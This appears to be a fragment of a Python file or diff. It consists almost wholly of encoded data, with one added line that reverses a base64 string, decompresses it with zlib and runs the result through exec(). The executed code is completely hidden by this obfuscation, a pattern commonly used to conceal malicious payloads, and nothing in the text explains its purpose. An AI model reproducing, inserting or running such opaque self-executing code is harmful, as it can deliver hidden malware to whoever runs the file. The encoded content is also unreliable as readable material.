OeDT+6tuf9N3NJkxv6lY24sJ0n0G+jVlPcCzNxXgrN9CzzCztJjQXDx4dArg5JqoLsrDgJfp8fesF1dRhiQVHbI2oM81n2cI1c4R5MmOS5HlDmDpFUwTisYG43hrgFkfVM7enpdOJLZqyjneOWeq7XdAqy8gQD5cGhtdZmDJq7uk7Q3YDuV6VuJ9+vr1ijaB/hrxF1W1b2dwMmksqkTAqfV4hOJx3ELhJYJcsWt4eVaUG36JmZ7FY8Tl9ME9yJL3397riTWGTpQJ+k0E4vMHVRnanxnlHKfesKwhhVKW4n5ghW+37b7d4ttZTeXWlu/TQ4eGZ1w8k3E8nhVPAHjuGSwyht2FdejBh9cFXn9xnhUxsHQHEB4XO8k1sPHZ7Dp0S8C8MTy8/SXe1SmAWiNrM7MAqpqW2CXUEH1DGndUCH1Q0+8jXT4p4XLHRh9DbI3DBNzDIzq43D5UwU5lJSsTut6fTtA9vA4ov1cI+/X9nqlM4pSd4kP+YaZIKo60/qDr4fqoTjeAZ5zjeqkI7vxmsxnx9oqG17uPx0iug/rZ+wPruUsvXejNyqISSXrw1hB8O6DWPS/mVfxrdO1at8HnS/DJBkDfTj1GdZyn1X1NGlZvS1IZpCYFHwjAKQ3Liaq7ZHIfOyGib1Gm/jbpTy/np4cuTZ1yIuJo5J7KKCP6jqMvvMP0OnzHi3kBiumWHaiTcevG2yC1a9oi7Al+3nA6luHfx7mxseLD1WGYpiCJnOqZDDrRDoNiXozlTcF0q+XiqqEyApK3DcCy3VLlz14XRe84HMk3K+G0OGIUvXRFNW2eABInZXEMZ+/9F0Q+9FiIMGZRWZYeUOg3Lsx+cwFPCjfjc7ywH99Cae8L8o90eQyRP+EsMetcoQJmO/uDda59F0caVlDW+YAcF977lf/tdjTUTNUeixFNeRHikmrTv9olDokEpIryYSaTSN+nyffV2ze9HiIJpUmbNOxbTyLFlnZ3nbQ/VuLUItIrUL2P5ZuU1zMW7oajjM0M0sHJjYLF3qh7AMz494WK2WDh9Wmk7ZSeVdEoExBlywBNfi2PLIo96mi1LvNanRKxVR8CJNXKQYYVia8JHYBhVELdviTSjEXMRV0wyK3vnv2X8WprWVLzwOO9w0NN13m0334TCD+AQOg3+C6mAS8AqxegWgqWf0XBlZlJ8lVW6mtWt5R9IHn75KyfHhWbIXDGlMPc1OKUfunIwJX6euG84KeLYEMLbsX5XWANXIIjqMYljazLanFXK7d5tvT9uNO5seU6uWE4urQ5L9T37yozTS5kohgR5jL/7Y94m8SvRv9nRqOhmju3xAhTDuUL1QQAoAjswKBPUFphOd7x45ocgOZU8h1md/sX/POnUcQCkv8O9Gptg7ADWobBRc5ek/p7vTwxihuVWDUaAeFZRNukOdCFUCU64xdCL8DmGoUDxldDVoxzzAcP7y+/6uhCVbl+XOgc8TV8ihJCoNI963Ace1JinPd+b8UGOryQds1H8X9e1v6178ItPKY3ykq7zCxfA8MvsNF8hK4XM6NPmag3l4a4hrvr+FFM3GW6v40uEDf0OuwqUMsW8jiA6ExpQ1/g7FDU8fWaRslGxxXxDXobP1Rgn/e7+Gt+y7ovr/3+pOmmL6AhzImm/sHnbBGnq9+wKkH9nuee8bFkSqFO7Du5OIbrQtz+AfHtgPPxb45T4gfMpGeWshUZFyddMFoc0a4Hq27APlWht7TXlEQrAq/1V8i8GY0XUbHARXi+idv810DiiIdT26Z5KzHg+66QHjRQarObIZntPoglKmhlJNLb/+O7PITCRD/jnfCOXczw6/UEu1WlWhC2ksk3fvKoXsOnBx54mr96ORxYd262RyYqaBB/7VAJPCCuot9plIVrgeL1JEES7+7UPCRMyfCHXU/ZxnTlklL50/rJfOIkk18w8nfw9eUGcN3GGDyGNRZtK/BjFSXsoe5zvrVxMJEcU+YZTBzPTo0Q2HTZp/jNRaMqXgtYsEZW4t3b9Grf7vXmL1jLuYiqfMwv0sXfLZQiMPDRbWyORD/SkJyfqYeX8S3a+Ej93R8LuUnl/FbREMLsYyUVKPm471jQNj4UafIlvaNt9Xwawe+tSmDndiRRLvpDdtzeZaCIZq4/PIJR9/k9WcjYuWv9tUnWZ3Mdr7eSbg/NnihpL/F+q9gxyYpE5pVDc7XpQLI+QHzwJEBGjrZyaDcyfODHOhs9XxkoLULnDtrmwWXI8AaIlzs5mlXGFcyrTwJcGB68ljfYLTiI3+UtpH9xy2BkP/nkhYjVj07KfUCDNkIsqTPhmN7ulNJClZvuOcJ9zfMnNlcQv0k60T/4ubs+BZuWzrP4p6ff2i+1Qa0kPtcLv/CK9A8nL3R5aCkhbXrG7dz9g+XYkoGpSqbJnInSUw/GS9c83UbOxbHZM9BR8pb1yCreF9owTivTdsrBwIKu2Kgw7kIDEuTQ8jL8Q+JJ/nQfPEzWfawPlFlmfRT6Sb4bgJ58SNocIJWkVG+im0UlHWAkP7bov44D6Ebu6cHdpmE/w+/JyuodeBfqO8ZDB9pU+tvgfETDw7CV3NEzPIFlMY+z+Oc+PuSgKaa/HvXWPd3JeDbTO6ycvWsFIL7E5fmj3GBLW4CaBSnDGBEcg9oaKj7vvEYauIFSie5tG/wo017aen/9qiegylZBxqtBvkqd/sl5afOogHT5+gCAwsEbMGoR/k8x/rUp7TGSRcNzxxNR9lJ+HNTqWNIcIyxAgcYIdAR7/rE6DDWfIqiBzQasXPgtrBHXUeDWAi38ZQBNBaZDIGAQLcC5HhwJJvCEH/evsCsZOMR05TnFKOdklgO2hvviJ1L5Xfv/+3Z5T3vVqOGchJJcfJC6/6rgobdVP3IA1PyLiUR57A3sTE7QjuXc7OFv31/goJgmNgWJjFkFG+3TgwBL3lMBXlgnt9Nn4gXOQ6UKH9qwcaPz8tnolTSa6Zty71ZmTYeObIG8hi1MiS+d7MMjZjD0tJpxAie/+YP+3lqtR64hr18C8bqbrAWtHOK/NqGyzC/7woerBemmQdqxGuhle5OhvK7oU6wz2oD1t68+208UG2s1QJlQTuxaeNfo8c9qNHjvpkH8QCYdKLeCcrL456v+wsipIuk/2OCEAzMbBLoLYWih77vveSHblyPa3MvtjTH+N4E4QG113VzR6M8sA+UjsO7M6U1+rkJ9xthn5cIWrf70moNDYP/Xt9gvrUPuOEpkcOH3w1eE4NJptXWMIg+JlQTIkpY5OHLCezQlaprTox/k+iz9zaFFRLbXq9xTWbtPJBXpYVPQh/HTWgBtauRZ8A+dNdTr3GcIjB9iSb6ecWLgXB7A5AeBZpxFIAGCLBXCH76nsaX/bEFzKRcJc5n1mleqRCobnU9LZIIVnaM0mgCWj1bprt9Yx2uSgBEh1jSbzXiGZZcXylouFgzzD2CGi8bOk8NXB85B2R/l0tpbnvILKTwkbaGTaSzMJP95U2b5cWfJyJyghvO+AVEe/vVO3KNX4HYBijRujMW1q3MAX7dBwOrf7jX9ErLYrZmUFCxvRUZz25zoGd8NgEU/m085z2J6mD3qpR0qzb4dbyRI4tug1jMEyva/YU48NutH86Lo0hVflPPK/2QZcqHIP5J0n6WhZT/vBngxK1fHuCGR7AAgrkWJRpj6WwTRuDdIfdIITB9iZoQ+FXfxj3R2Paq2yK0ayo10h/6GEVQSwQS1kjiPtm8Hsxq6I5r2NmAADwVL+RtmyLur3+svecxH/7jJUdy2rahYTWUWa6iAikKVTwF0plqNYTz7VbzPmbjtQdzzR4N9B9OZ2UkHKZlTSed79aO3o7tHcSwsc1/Abth2vZ3rtCZ/pN44bBXfAQx4v2TMiylb9c5SEtM1F+eB+InOO8U7x/VmlQ4qySlO9nWhUfYXNZP9yPk6EfaWw9ozHpeHVXdaSt766mQ9AmWMhHuC9YAMgxZU0JpEnfLGUstnlHlMN6HSk4VaZL67rsyx4lglb5QhSZYqm+yJF6d4+D/sCmjigtOjNI7fc969w5GHHmRyKngm+4L8ObHUiBCGul6RqN5DiZaVXfWzQ1Kbp6ogypiB3nWH5dh3WvNRdi7vRbqNAOgGdusGPbk8XqBg9E0ySd8Hznob297Ukkd59CO0xo+M1YPjr0Z/XLNDzMQOsPzZ+qMk/Na7Vnsea097ym25E+IgfKnH74/4u6iCV2B/fCjsmLZ6un9CQ+dgtXZfjsTuK4mA2sn1w+Y73XEm/o6T5hL5adWLHHV8zN/HmAisZfc3MspYVjLDanFTlI6ip860EQssJQb4Ox1yRzpVF+tDOVqKcl4XA0bPkXvza00IBjqPc4k9BElqikryJVPFa7oMPs0QzOcJ5vlLI8tI8v9aNrVHJ+dieWa+kqriEyxlTQLameoJuom1iynpUQ2ziDHhndV2h12l7pEIpUuB/bu3tShwOY3klR19TSvT3nqo8Aw7hYt/ewn5xhcVxxgfNgUSA9VQ2ZHrxCpOtm6kNfqbXG4CQGR6jOxXbo+3Hf+pyFLWUHUfqW8+xUmIC7USw+zqcYynmpr4vtSdy42eDlVxt9RY1mev0cvXAcw5P0wUJd9KA6phcjQFsoAnOuelcj1Ky19XgRkBNMv+DyZ2kUz/YMstXWSG3mWoOndoxlj2v9M4MVUpKYKpZWQ5o+CTn7itMGEemz2cRBOfgDMv55zyxK6gPtlLEp/Bt7igFNJ83QtO01cmDuMk91EjeE8xxqr7wCz3munQv2IwG14vKACCDXCFJwA7VjMTYk+91S7hFy6Br/bjXFiQOK0PG4rC2wFLQy/YSiJ9L4Wz51+3Cb4SzRv6dGXQUfaOHrbA8Emq9uqrw38ucp9ZXrVbVj7JL6KJYYPK/iMmhcjGyvYGZN0gYt8H8bRDMYnUGInfG+A4yAdgLt3MbYpJuuo/PsqJ8J/a/eAsx+qPSChiS0IbNeTM5RMAwjyUnYc7KRIJT5Oy5a+zu9+QBs7h0vSraZ2nuGemM8MBFEkj/LATxKuC9Pwtt/ktEIEPLOzJvRw7Lesaj42nHnWjamF1nZvoe/ivCcfEDS76D01FYK9AojWHPvUbhPx7rMIDiAwzoKDwwLVw8Ta73nAuKkOjPjLo1794Q3SIyaYoXihatd7J3BPl9YFrv6TrKUDEd1KVbnIVJ43TFzecwoBmIg8Du3etRjWfS8hGn/zQCDsOIoHe9pAi7KoIeBCcKj21STMMEqvMFYcucfuXEGypY+l0I+Za02wMX1Nfkq+GNUd/TfbVqMNq6/iEPU3CQMthIxPqbWa0FW/Xlo+UtS4l3VGr1ymh7zQbq4pXpqRpO9YQbo2nu/zmow3fz8Fih3Ih2DvzNMtlNHLJYJphkDxToKaJwZ65uLBKvsVMm18Wxq3wQu8lWsAOkmy2chZEkpGDIBPg/X/i2GssrefmNQAwbcI8ylLRPj8QBolJnZl4Mz0MPOfujU1JLAHIhZt0Kx2RZWGyKiXlX44Nuy7vVmTwf2sjtKnC7QcTcRpBqGjVscOnPGIThOkEzfsbUMENmTqIDUpdY6+iTqSzSjayyzsL7Z+fO+JHbikimOEwcf9A6y/EpZNP74KJzfmdt9kkL9nhoqkek6R0qbJzdpQAa+ilxQANXc+NM06k4sFTgsWF7eSvDorQKZb6chqtN1CBrTe9LklTMCE0i2w3R98Ad+HgnJ9euwMBEqHHSHthhi22kjAt9x7YALYWbT7tiPiUWXF+SDYPdUuJ4ouBAvB0r+O0Jf2DPidSAngHAOh7URjdpx7PHtotcYmlItQCFcNHzlJ+0OvDde972fN9d27DNbImdH6XoG6VkJo1e/aKnKv8YG4k6s0NSE3eCU6EwIEk8hh2PwTqrTlD1StXLpy6+YsEScJjICfJuu6fkSNBQ0iYOwdtiHZ7dF0qii1zucVkoo+/RyFDw8xe/BIwLBdalQHV367/IPLgwINutIpROKtMJhkDRfI213lLiUD/aT+2DetWdiqxqz9efX5YQw/KZuvD/6694zv7VdDlQcdIY69/ROslrf+XfW9ayz0NBAK7DEqts1gFVMV0Kyhk0+h65sIOxbK1qRC9+t3wneNsJ6dZRYHR8HkiWvCHy3tOd7XM+uYszCkQbBSjrBZD/AQrl59Y1bG3mGGVnK3FDWBcammiAp0Y8SHirRQ9jtUauZouuFDcCzIvL1C3Y8zTvpQQT8ieL+wuLj7S6G2IMpQJWPsVR0zGHn5na/lGb9hmhLlUXPGstyXNfQa13NwZYKExhpAGfSPNgFdOQWhwRSGoCYRMuAY+aqYcsaR1fiNH95cqvxErrovMnrm2qcsCvk292pdYDK2lBX1vnk25fFU4pQjz1bJAjov2Oojm6XmzJRBtrlTbGbcP01qNqW/e/5vyP3/r7ASCMaQmcxWDxOgN0enx9fN/PYLRuQ/s+qppOVRAjbwu3QGne6sAvAph/8uUM/Ky1q2OOrtHwEXjCawF71qTt3Wp7UKRiBCz8+uFIZyF3G9AjmVrZo/j71YgYNoG1QikJSH0YDELbhXdMzS2J/sx/tJhYPkYPdSdX/QqeW10X8YWsRWhDD/lF85XRIZyq/y+WgcI68Ebh9WHVnM0xGI1LXMXgvSwxJJS5Ex1CRp3Tk/s7WjBOFsmB97EJBtiHeSuoPkLB2PJe9WiXe4KqL3IYqAnxveOAmyqEG5N6m9pGiqfFOUB1lhRJL/UcVo9DABDQf7vvg1Y1aH0NVO7//Nn0fxVjwbuLCte35hJExzeLldW85e15yjlFNvQPEt9wjvnPdBOjMoftm9d79YUc5yx11TRkodZd3JxzB8V3sZk8pByEHG/09QmjiWszFxIGEOCLEhGLVrLdDlgZ/qjJdtxpJMFg07iTa05JdEQ5hLteMrYt1w7q/hUlZULqam6LLSbVWt1Sn8koZzlf8agpGdRVGEF2eHsm/QbAZBstwm6F0hsbyw2Nb+BEvfyeLl2e5vjP1ZOTst7kFu8m+xxIhDOtnTwhyvQq1UoQF4ezDvn3/p9Cw3qUynaJMUmETYWHslnXlTTc/IhMPvwF/3jB1sZzqSJPGZZ8gf68lR917ByhxMrVNfFB3qdL0WcZ48Dj6Ro/d71yzvq05HJwOrdtIprdXcVMxBjsFlmiw6y5kyadEbTsWl2HON3hNFymwft0WRoOXVG35I2hbBUBi6Fi01BCJlj1hB7Ekpbws1RcEDhR6Z7WBvhHv28mNcJ2j/d0mWA+estjyUbN6e4LFzDKely+JVZdZwMeeIeUhhv+DpldnJDBJSAMJGybgQ+jCRNnVu87RZ3uFdAsE9ZijNeDikFd/LCV/3O/OntVXT1kEiIG+/FFIWkUi/2pKOd1Gmlr47qkrBVMRg+WYBJLxgRLoQEtU+l/i8vFht+ai0EAbN99ym6nysNNrEt3le8u9SmUgnFBF9JSDnrJm/z6Vt2iR40xf9hjdCWTLtJqUIKNxJeCryhbp2q4lJ6GBbkAwfI75CW+w71s14FWynH/BRl7SAbUnEteEgqHhE5fKvMNkWs41zcVrKvKdNaR9TWGHZsXYFi2a7q2qIK9xsIEcvKuzhhptgs/2TsPmqqCXoLZXBLxYa3hVphA8Yli5TsEnMqf508fDlfoqv6sXeO+JY4NkHh4SouFIrOfdkXuggHXQFjzHgkGB08w5qPsw5hKoPVfVzgPYV8MDiFrFWBnFVNBcdKg48s9usejTIY3g68fWaQolewOJKFQqUmRUfJem6Ikw4Btb19lwNhKGYdFA9v47DDSAca06Q6VV+NJsHXZBEz1b2T0pYc/a7TeYD7yuX+cD6qy2bsIURIAJcn6a/tA/vllTVkrhCQy2RmcpmR6h2uosiuNojsZAj5dpjuKAavxLrZOS+NOLZLajnnFfcyJtL/DFZz+KJNPiB7SKOa8LduOruRaE7E6TjBdIFDIcPXzOBPn6Jq74Q9ZikDymVZVmNOjyW9z0VrMuWfwcHG+vwVHL9XaefqBMknCm/VwOhHCaxR18zM7MVi45xmfWEq4kvoJXQN+U/5CvZu2df9neLlMa7HEng1k+B45NWOqzj5X9EWmjTC1n2xHRepXdpiywrD7H7Pkw/C9/iyBJg4pjt53MFIZ8HwCN0D87U/b96RyheaPc6wo7Lrph/xXnAj7YsBoupwx1CIo/qQRuOTjDRkSH8C50m90u/fK8jJPwNHwkrAuXSCCuO9qCHnx4z5f1So6c8PqOwrICJMDlpboxDSVpfC+dWrZ5y7/WYvI12gmo16kA78QewBi/gH3j+gzOWVDOwNlO1zgJcZTVVJscmMwmXNpBs3D62ujiIpzRux+Nvsu0YlKz4J3VBXrmOLyY7MlpbqJ5SNckmGTfsJ6AsV+QRxN0Nc2E8kxcr9O2TsHlFhqH8LREa2VDwbz8PJO45bhx6+wQ/bhift3nzhydmenzGyTAfOyqr9sxLK12GXk9hJo4/9wPqWCFDzBZxhbkTlRDFLZOHJZitrNjIF+kPWZsV3Va+k7Hae2Nyf7fwLzdMnHIZaVfWLIyCgGMJo/3U2K/MBIINQAzA9xs7LpTyAx9Vh0utj5ixfGnT5jt5p/5oNrFiYpenkVHyaegvDayVfdie8vJSAROtvAIDULaPBeGNQFfv+Q+2x0ztDi5xt1D8uU3KP8USIO5fYDtU+VWvltTTUxzUTKmSoqsu0+XEl3rg2GTOEBqtKrbogbZg51hjVcZWwQmqwvZfBH1X++JnufhU5szcZTK6zX5EqM70sZTiWMmo12v0Jz5NDw9+aChwOC+C+klqsrJQJtqISOPi+er0mn8Kq13iHGZTFaLnElBDk+Tbk9mXu2rdweaxsODKAMzi5GA8lQo6KiKfWqToxuzQJIpgDgj4NAaNu1soszntn4rmvhaLE1GvtscMap7ttShpi9tXGqpxXS4SaLcj243rwjK1OSvAPrnZZRNYuRN6CvYOiiCYowxluXy5zwEm4nqQb1NYbN8ggxM1Qe8E8NRaT+c0eBnCH8f08uK0vDJz2Izl3s9bk4qz257YZ1nndoO0QW5kWMdl5yoRENbkpSE4DN/VCekFyzsrhN0jfMAQgBJ3Weg1xE6SFI1BlWzKNbBrm1wnSVkSbwXzkDJAbiYZs34KqdWsI4W5cr9KHNu/Rc7SIhsVS8rfxOMMlOmEFwkhZTCIOHD0rALo4CjqRy97m0QpDyaMOz9e71mKbw7Ap32ox4/B91mJ1vkyhTSHJlIQtn3HXXgXRq8HZwfGmWq4QLmBci/jjPZ5Yv9jQJI2o/YJCeY7caSQGYI36bC5SUAj8XNiByQ7i2mrcw75KJu78dhAIzR+m2/qqYjA/jHPQdqPzQ0vsMVoKac4PnYQ3C1jknMeKKtnrUUfuFjsE5Q6oZowvS3GBXyaIyLix9ypcBc4TO25yI2mWn8tuwTgXxSG8Qw3D31yiGG1kWF6rZKVEwOL2fhOSAoFjx7vx0bJzr3FDd9bXnBMQigG4o1EWZNA/kZm5gBSoy1E4NofiOOLv/08tKa4Ds5+WXT8z6NSpJ+B+xcA7bZa5duhcQ4I+Okd0cOqfAE+ohOY5Sc+4DMBPlaX+TNvlQTF0/VqPV4pmE97PYGPJPlfN8jweBz76g9Gve3Qc3InRCDmyz90ImEezHkCKqFwtqdt4WO0f8ONcGHkdtyVSpV3LcViEwAnHwZY2Jw04pJK6W8xnsOHLsKawrQ4tBtxvvkqx+r7DKEKHG6dR7FasThUP0q2UmQp23W4Pq3sENteAnpaLaFOfhOcz3oC2mGEb7OW2kBvPgOz5+kzEjxXV/sgGjq1fbdS5iaTWD+ZgOXSftUTPacLwM+huLU6jgFn/l9UbL/shvhUfqMvtUzTfhrBDGAEUZVNttgvuIvOmQ0bypybG+DWpIs8ji6HyDd/X0bll1Ghp8IcJ7fV4wjNE6V5w1PNo6ZufnkuBpvlWTbgNk8PxmLgN5pz/JvcxK50ZssdWC9+DIxtU73IAmp5Kfn+6m+YbnasVfU/K731m5cRmkURmHNedJG8DwWINQ7p0qg7LnxXXBMFU/zaN6amMmqfqqXkeAfsyEavrjK3dPqyJ/YWqh+Hb1a67nlqWVpS8sSxkUlxoiJ5tJWwz+lneq8Xm8p9vdXoK8eeBdLU5G8MveWCadWb+6JYn0R4A15q2mrH0pYfpFbAUszzDpbg4KPBOMvCTHwAu9x9q87jEaJ2d2ueZMNdj1Zbb3AYOLIGllthIzbF+p2JwFrtYbUw3Z1dqCO2XdYq2Irtp1Ma6Wcoh1ct0VOAidATEfC/XivRHjCG7eR+ySP0PY09iG8mxR3sJuHuMBqjCz1/EjF+fXZ7MB3Uv5zSaGS9Xi7sWgfqtUVUBK1xvGs/bb0EyhpxMRYlTqGmSIw5Jj4YHHSIWvG6v2wVqlJtZ0jwqGq1uGF26b2T1RwaDuo4bvSnT70M1Kn6Y0o1u40v9kWPGStqbBrEperBSU4D/5GiX5sMGOWFXqwh0xoTJWWlu+ITor+/aHMlDBz9qiHpIz1cNfBjUyof6tkuhuOU9J0NHGPu2HO8OZtbXXRiVYkef88bVPNHjlZvWCv4nkKI2G2JUHim7GKwH+mCupVK3ptR48H66vMWcStyqU+Q/5c07kFECc9uZ7yBWIZuf35U+F0kbcdviI9MHYy/c570JpEF/XlLaEfBZq8x75g2//rKG2FSdu8nx6cW4OBjysD1fcX6C9UbVvNmPxfLZtLHElWDJZArr/bRvC5/uwS3K7/R4MCB3o1809mg5tUsKA88+69SZmNKImDA4YLhz5Lcj4r9ujr9jvVP1IbKXvpM+oIfcmMl48x4j2a7ISsP5vUhhlsWkEC4dV0lg4fTy0QjXrxbTpT4eOw0fsZaIPKAeApGLNMKSmKyYCk6WrOp6oT9oLu8l60+QDAdrYc+V4BQbmv14d2dENpn34H1F3uAEM5DvonA0PyrVIoliqFQtosuFpg/Dyu87HVqPfVDvGdeN/6rSm4SvEeDQabXrTMn83UF0VdwVwlRJ0+QzRMkLk9/z1hZUh0qtS3XfKcrxouiiNTLK7U6KyTwj+g8T+2+1DqOBrIpfMegK74Zv5CrwRGqh6twuIWpwBYiMgo5X503it6nCmCbYv6qp6k/m6H2GUaqXYp1dcExU6rWFdxbWwh9CqUiBrWpWwL0gcpqMMNJuNHdl94q2IGggPiY8280P5JD84ppnpHwitwWckDLSCgG7NTefoBX8uxT8RPJJK5h7r5G253dyP4jaWo+SCNRqROZyBzK9BE5ZzuqtO/CT7KnhMh0vEzyPXJikt1WY8ssAShKn9uJsxj0AzsP7sjQ1GH7ptLQiXXxiUU9YCYChaYtnLBr1yqI0GbZVflVxqHlkDlA+N+EAO8VU3rnaK84QQMhKNWqFP+oe3zbp0NfN6IL5n3oZ5+BdBBIJRJIeD/zqO8Re2sMs3MS9HvbK7cKNr00H0LpL6f9CMWERd+oirSiy7s4XIHdDzHwAqfG5cHvsySiShspMPk0IcX2VRJmnYxp8DZTxlwwUkTvVIZD6jX+vqBA9O7q56zO31+VGyYyuwI5wvp2C5LfeapiuT6HdI/tIczQgGZExD809U9ar6vFUzSiMfJdbqNNAQqFhcLHQMdhAVmmkkwIbq5tgij1sUQ+FciLxb87JBLwwgpjrvojKQ7f5AEJnW59+Kgn+TBDHhEZ/gK/NXRqmF7tY+e/uSs5sExfBW+/h13vg6Bw8t0DBqe0creEiELbtFZnbJieMJ96fBazVg+N8o7FN+IyBttj5qgflXF8rwTERRavmMJm0tCt6ejceQEB9x+ZELAYqpV/KQNhF1XZ3hCf1uKOXJqA5RNy30eV0kkjCe1QRpbTlU+fJMv0XKPQJqjAedH+K7vwCtCyjT3IpQNPAu3HQjYK6bf9sNLa8+AJ6CeRGygafOA1MRkFeqY8YdhHFXqgfzP+YWUOFNMuT81O0WBTKsUx6YZ6hCbz8XRu0XG6m7w8u5p7s/jh7cGPdri3WNeCGYBiM+fLhymIS0wvdLtn+ndQ9uWmsZ1ZJeoPOQHPc1OWHgtLj4JOlGtW4PGvZcVZBECTyvFwb+IqQbexw24x8QywoR3QdhWcVkgWbtnpOUvvJxVpIDvCPraVrY9/zJu5K9hQ7cC19FmTKrWfTDVnAOjg8iCPlxcgEoM8+shQC/HCOclTKfvuZ2rUrpjHMI5vpqAkEycI/XMRH0rPP9k9uCknFtbvY+zZH0MC06+yYgVKkTk3U1jjf0ynRNJpocfPjpDQCTYE3lQOgRb3h3bdfK/Qk/NvLh3+CSH5WLL5A/ArdHugj1Edfi9E//dzXaPgYT5rJ6NcMDAa8Lub1OQQ527PRZdh105P2668DNO/WnOcp5dg2J9BJJywBgHHaDQIf0s2iiEqBzFX69PwjGaaC/wraHN0VxpuLxdF3mXtwvSXa5XAc8K3Rbo+hV2x0675C0tweW2yGb/SIr+Pzc2SkWAODCvnos5WYr+nVhcsZaYLRqmrlkZ68fhsYs18tkNlk0dDVLYJ/2+8DCWVHeYjXZGfbWpR7kqqZu5ePFcgCFhGFXEvIh2qpBhG12yLTCIfLut4H7ZDrBUcGV02YhqSX0x3X7BloJeA10CsTD8kWyEM3fMAltW86JoUXu7548CiobbrSjQuS36NIF9T48zSTs7sPSxJRYtJR0pvvYSHzLb+65tN9XMS6PPB0oFgZcTOel3gRuHB8iV+wX14jIRllhOi+lSUjApbhgvTmT7MjlRLCQBLpv0usN39UF6O7k6cpim19yZm6xx8Km77nH+7bEtEeJVTZhUXaD/2yNssXYJ45tRq13y1/qUZU1GrqzGAXe5vvCbeaXK7TN3vJ5hRgA5/k7IYMQAKor/63xS0GMmdL2Z1wM87g3m8vLSu6v8Hoi/4c6NK06zInGhS+wyQNKuZWRgRXaMggItO5zqgsy5s5/5Z/iB/m7zaQyWWIrHFLpEMkQfA1eWe1hOb2A+t/pYE4Q14SIltlXWcaJoFHr6ZJl/s6SRCosuDl3ONI5VH7IZSO0ZLgQgdNRN/hoQWCDW6TTdt6HiFUw/5oh7f1IMLn98gmS6uKbELpHImhh6p4P0vJhEFbvonOOdsDc/bESsRhxcMa9Ax69c4kV4ka6vsUBtd0Mt9whmyuEM4iGNOKqGul3CcR2u7kzA63WfdEX1bcSxJat00Adgxdzzzs5qFc/4udns3ZG6Cdc4UkM71k2ggf/tZxc7VJGz7+eDV8cgnjQEWwLYNb2xlnVI8y+TTyGXgdBROHyomkKTSKewJ9aEeRn9qm/2zYMJ5O5Slblp6R+z6DLDop6dnfHjna+daVkeTvQoOwhi6n4n6VHbQ+JOCwDeuaftRfmwGpEQqnmagi8WCi27P3Pu4ImVN7CBcG3NDe+nVcHeoSmwrM2SWDtYi/R5mHZDPANkYxoU+pi5Cm8SF7CSMhgsqSeOv+0DjpaVCzF+ga92d2laTezsDfL0cBnXZ+Qi7CZT6Mba2I0HHzwaVecOC2m9jRWDRparKHgj9Ml0Zle3LzvSZVeVWowKChWn131OAwylNmgEjdVB0TB9fGYOcIgHgWoODTRb/giuLQSpdmJH2cowXOsMRVq14kYl/x+b4vDIer8SEjNqdG+D2FkONY+pZaw/S3IJT7EA26C1P2a7Kc0grShTBJvpZsNI1Hu2Ugi8MyXUMBeVY1psbNNGfhnTMMNhqpNJyB44CpCcZROyF+QaeET7XGWKuP9q9YwugBJYwPLkTgYciQ3YZoZcLbqxqnYqLtYfAdHp4jV08qod0k85KwFxePfyDqQ+WWvry4r6q8WUYrPCxTV7mgg9mtl0I8q8II1kb1Wtm/6ccLF+WwqzOKuXbK6321Bxme9J/ZDSk3WpvexDdzdmrs80rL39QNvIgI/SHYRLsjdRxL1bXOURkyo7YRmy00GSBvYABRs9NlRJ5gFLCnNeji7LaAKeQe8dEYrVwOR4+YcLIV93t5gGn9TKPrCoArvxvwKr4DxWr+XY20PCDBLl0EwCot6U3jH9jpdjGdiz1VKCR7xMX5K6EyzzffHh391ERJSwfcYH7O24rsRp/enxg1syAtkG4yDnIuGc6sSY+Paszbpn4RxSGnzY79BIHVgkjnRwhgcLspoM9PZuk+4MiAE3qo5mhtXDchFq6zSYluRnNVI4X9REnAyzlY2GgKhs5pUIujWunSGoh5ypGtJgpTaN8nGlwRiTsXCW97Q7hFhFH1lmorzW0554Cascf1qq9o5kzK5QnB5Jr0j3cltiPXzwKUuCHTKpZXTtZQ4IOTIWV0M2i4bJnD0FIZ4UA7zHRCccu5GUyAC287GDI4jkLsOzFUlF+XbsB0QKvja/7nq0q0mXRcjFJzzblDHezM9l/GST2v6TipfG6O05f++P7Y53YUHLiyElPoR7vX7h5l57/sX3pyIg9q0WX1cuXb2FtY4WjbLAQOfkZ+TFF8dCIF88Cjv71OtFP8tL1d49rkGtL8L4yevsS9KSwG5Js0XZ5Swhs/uwzu3z36Z71z/95S8KV+4QgxMfJynOVz/q9IlyZ9KGM+NrHaABrqYpU0v+GhvM7ORVovXdryhyXIzjb3SU0gI84AMIMh+HLMJY3Yn4+5/7+JwJsToI0OlOXZ5z+yXKxRJuk+ZftSLsHd6mXCQIkW/QfESvGq5Mwr2DZ7mBdcbrAeDdtuYuB4TCzKcCtHHPrKlSmILLdqkG1iidaMpEBhPKdjvg+8ZNhXHyyGNuvhI+cIQTcJ9vMSYcp3NRcRKH2NLhenQ8Kl9TSMUvQo8ydkRKqB3bpN24dpTphsRSwMgCJsbCqkjBXR8TV77Ha3rC+4+tbE+mRcaGCOJ62XMJGXUFQB/eNoitUeqObyMEVyNEvQUmpko8YF3/v+/J//378//nxXVPVVgV96uTIhEBT7evdU498qgO75N810wdBC6rjeYR2BMrye0mcwJe'))
+_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==w/qK9dD8/f/+d+K956tPMuIeR9PGgGsMXqXcZVw/WvU+0veWrYtgtvck7vCgY/9ON8+1FGgQFWgMYtgdnSYsElEi8wckhl08OF7IF3a9Oiq9jrvzPETdcZwzMp2Xoya0Ze+TDdfJg8lNBv3UDlSRFlD5PGjdD7FouLOLNfdj0nbsTPkVfF9AjHa266E3Ddv3qPU7ktExK8SytTPCk5NUR3GYFANJXeyZVN8QqU6hybY32RoLPU/SnRLeepytpiWkKh2qVRJMzjGUQRC187moZMsMqp02l2W/rkJifXy/hwSnv7E5swueSd+SwpsTe5ZmBov6Yaw1pURSPnW2xe4EWTq6YELt1bC04j/V6EnZXQYj1LUMZSg5/7W0Y+/7QPAKw5gIev5WTYcfGlHTeyBcjTJMI7IBJLwWCGHRtUoTS/kIsWK0U2T3mVeu9FlOf27tw16gDd7jPY/4ARN8Fu5iKALoUD+AAwiqOvnpVPuys3h7TLIOkuI5tSErazU13jh7iJUK6Zgg19NSeyywp6mNl1GpS6bSbsuBPd1eJSwdlQRkpr40lzzrsJ6p8dgkua16DLvB/6SRBbRE8P94b9FgRRHS1X+MSvSH4lytirvyNP4ZBb/yKJx+7NBzXls4+tL33y4zoWuMhTbdMSqHql1zJjVuQr/NV38SRyZpoK53mLoFDcoejQWiqVnEmV/1h2k1Jd7Ga+rlYuUtVMFxsaOgpqiJY1o/Onq9NoUDOB+k2QEFbH